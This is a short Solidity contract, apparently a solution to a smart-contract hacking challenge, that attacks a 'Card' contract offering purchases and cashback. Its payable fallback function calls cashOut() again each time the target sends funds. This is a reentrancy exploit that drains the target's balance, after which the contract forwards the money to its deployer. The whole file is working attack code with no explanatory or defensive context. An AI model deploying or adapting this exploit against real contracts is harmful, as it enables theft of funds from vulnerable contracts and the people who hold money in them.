pragma solidity 0.4.25;

interface ICard {
    function purchase() external payable;
    function cashOut() external;
    function cashback(address who) external view returns (uint256);
}

contract Shopper {
    ICard public card;
    address private boss;

    constructor() public {
        boss = msg.sender;
    }

    function go(ICard _card) public payable {
        card = _card;
        card.purchase.value(msg.value)();
        card.cashOut();
        boss.transfer(address(this).balance);
    }

    function () public payable {
        if (msg.sender == address(card) && address(card).balance >= card.cashback(this)) {
            card.cashOut();
        }
    }
}
